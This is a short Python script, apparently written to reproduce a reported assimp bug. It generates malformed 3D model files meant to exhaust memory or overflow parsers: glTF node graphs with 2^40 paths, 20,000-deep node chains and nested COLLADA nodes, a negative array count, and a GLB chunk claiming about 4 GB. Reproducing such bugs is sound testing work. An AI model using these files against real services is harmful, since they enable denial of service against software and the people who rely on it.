"""hostile_assimp.py DIR: the assimp cases of issue 22, made small here.
dag.gltf: 40 levels of nodes, each listing the next twice (2^40 paths);
dag22.gltf: the same 22 levels deep, compact (858 bytes: 4M paths, which
took 22 s and 10.3 GB before assimp gave up, when the bound was the
machine's memory);
chain.gltf: 20,000 nodes deep; deep.dae: 20,000 nested COLLADA <node>;
count.dae: a float_array of count -1; chunk.glb: 472 bytes whose JSON
chunk claims 0xfffffff0 bytes."""
import json, struct, sys, base64
out = sys.argv[1]
def gltf(nodes, name, compact=False):
    buf = struct.pack('<9f', 0,0,0, 1,0,0, 0,1,0)
    doc = {"asset": {"version": "2.0"}, "scene": 0, "scenes": [{"nodes": [0]}], "nodes": nodes,
           "meshes": [{"primitives": [{"attributes": {"POSITION": 0}}]}],
           "buffers": [{"byteLength": len(buf), "uri": "data:application/octet-stream;base64," + base64.b64encode(buf).decode()}],
           "bufferViews": [{"buffer": 0, "byteLength": len(buf)}],
           "accessors": [{"bufferView": 0, "componentType": 5126, "count": 3, "type": "VEC3", "min": [0,0,0], "max": [1,1,0]}]}
    open(out + "/" + name, "w").write(json.dumps(doc, separators=(",", ":")) if compact else json.dumps(doc))
n = 40
gltf([{"children": [i + 1, i + 1]} for i in range(n)] + [{"mesh": 0}], "dag.gltf")
gltf([{"children": [i + 1, i + 1]} for i in range(22)] + [{"mesh": 0}], "dag22.gltf", compact=True)
n = 20000
gltf([{"children": [i + 1]} for i in range(n)] + [{"mesh": 0}], "chain.gltf")
dae_head = '<?xml version="1.0"?>\n<COLLADA xmlns="http://www.collada.org/2005/11/COLLADASchema" version="1.4.1">\n'
open(out + "/deep.dae", "w").write(dae_head + '<library_visual_scenes><visual_scene id="s">' + '<node>' * 20000 + '</node>' * 20000 + '</visual_scene></library_visual_scenes><scene><instance_visual_scene url="#s"/></scene></COLLADA>\n')
open(out + "/count.dae", "w").write(dae_head + '<library_geometries><geometry id="g"><mesh><source id="p"><float_array id="pa" count="-1">0 0 0 1 0 0 0 1 0</float_array><technique_common><accessor source="#pa" count="3" stride="3"><param name="X" type="float"/><param name="Y" type="float"/><param name="Z" type="float"/></accessor></technique_common></source><vertices id="v"><input semantic="POSITION" source="#p"/></vertices><triangles count="1"><input semantic="VERTEX" source="#v" offset="0"/><p>0 1 2</p></triangles></mesh></geometry></library_geometries><library_visual_scenes><visual_scene id="s"><node><instance_geometry url="#g"/></node></visual_scene></library_visual_scenes><scene><instance_visual_scene url="#s"/></scene></COLLADA>\n')
js = b'{"asset":{"version":"2.0"}}' + b' ' * 400
glb = b'glTF' + struct.pack('<II', 2, 472) + struct.pack('<I', 0xfffffff0) + b'JSON' + js
open(out + "/chunk.glb", "wb").write(glb[:472].ljust(472, b' '))
